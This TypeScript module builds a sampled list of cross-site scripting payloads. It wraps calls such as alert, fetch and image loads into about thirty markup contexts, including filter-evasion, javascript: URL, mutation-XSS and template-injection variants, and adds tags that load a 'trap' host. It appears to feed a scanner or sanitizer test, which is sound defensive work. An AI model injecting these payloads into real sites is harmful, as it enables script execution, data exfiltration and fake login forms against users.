/** Attempts to make a browser run or fetch something: each way to do this, in each context of markup. */
export function xssPayloads(trap: string, wanted = 200): string[] {
  const payloads = [...contexts.flatMap((context) => calls(trap).map((call) => context(call, trap))), ...singles(trap)];
  const unique = [...new Set(payloads)];
  // Spread over all contexts instead of taking the first ones only.
  const step = unique.length / wanted;
  if (step < 1) throw new Error(`only ${unique.length} payloads`);
  return Array.from({ length: wanted }, (_, index) => unique[Math.floor(index * step)] ?? '');
}

/** The aim: a script that shows itself, or a request to the trap. */
const calls = (trap: string): string[] => [
  'alert(1)',
  'window.alert`1`',
  'self["al"+"ert"](1)',
  '&#97;lert(1)',
  `fetch("${trap}/f")`,
  `new Image().src="${trap}/i"`,
  `location="${trap}/l"`,
];

const contexts: ((call: string, trap: string) => string)[] = [
  (call) => `<script>${call}</script>`,
  (call) => `<ScRiPt >${call}</sCrIpT >`,
  (call) => `</style></title></textarea><script>${call}</script>`,
  (call) => `--><script>${call}</script><!--`,
  (call) => `]]><script>${call}</script>`,
  (call) => `<img src=x onerror='${call}'>`,
  (call) => `<img src="x"onerror="${call.replaceAll('"', '&quot;')}">`,
  (call) => `"><img src=x onerror='${call}'>`,
  (call) => `' onmouseover='${call}' autofocus onfocus='${call}' x='`,
  (call) => `" style="animation-name:x" onanimationstart='${call}'`,
  (call) => `<svg onload='${call}'>`,
  (call) => `<svg/onload=${call.replaceAll(' ', '/**/')}>`,
  (call) => `<svg><animate onbegin='${call}' attributeName=x dur=1s>`,
  (call) => `<svg><script>${call.replaceAll('(', '&lpar;')}</script></svg>`,
  (call) => `<body onload='${call}'>`,
  (call) => `<details open ontoggle='${call}'>`,
  (call) => `<input autofocus onfocus='${call}'>`,
  (call) => `<video><source onerror='${call}'></video>`,
  (call) => `<iframe srcdoc="<script>parent.${call.replaceAll('"', '&quot;')}</script>"></iframe>`,
  (call) => `<iframe src='javascript:${call}'></iframe>`,
  (call) => `<a href='javascript:${call}'>clique</a>`,
  (call) => `<a href="java&#9;script:${call.replaceAll('"', '&quot;')}">clique</a>`,
  (call) => `[clique](javascript:${call})`,
  (call) => `<object data='javascript:${call}'></object>`,
  // Mutation: harmless as written, but harmful after a parser has repaired it.
  (call) => `<noscript><p title="</noscript><img src=x onerror='${call}'>">`,
  (call) => `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror='${call}'&gt;">`,
  (call) => `<svg></p><style><a id="</style><img src=x onerror='${call}'>">`,
  (call) => `&lt;img src=x onerror='${call}'&gt;`,
  (call) => `\\u003cimg src=x onerror='${call}'\\u003e`,
  (call) => `{{constructor.constructor('${call}')()}}`,
  (call) => `\${${call}}`,
  (call) => `<%= ${call} %>`,
];

const singles = (trap: string): string[] => [
  `<meta http-equiv="refresh" content="0;url=${trap}/m">`,
  `<base href="${trap}/">`,
  `<link rel="stylesheet" href="${trap}/c">`,
  `<link rel=prefetch href="${trap}/p">`,
  `<style>@import "${trap}/s";</style>`,
  `<style>*{background:url(${trap}/b)}</style>`,
  `<p style="background:url(${trap}/u)">x</p>`,
  `<div style="position:fixed;inset:0;background-image:url(${trap}/d)"></div>`,
  `</p><form action="${trap}/q"><input name=a autofocus><button>Entrar</button></form>`,
  `<img src="${trap}/g">`,
  `<img srcset="${trap}/h 1x">`,
  `<iframe src="${trap}/e"></iframe>`,
  `<embed src="${trap}/o">`,
  `<audio src="${trap}/a" autoplay></audio>`,
  `<svg><image href="${trap}/v"/></svg>`,
  `<svg><use href="${trap}/w#x"/></svg>`,
  `<body background="${trap}/k">`,
  `<table background="${trap}/t">`,
  `![foto](${trap}/r)`,
  `<script src="${trap}/x.js"></script>`,
];
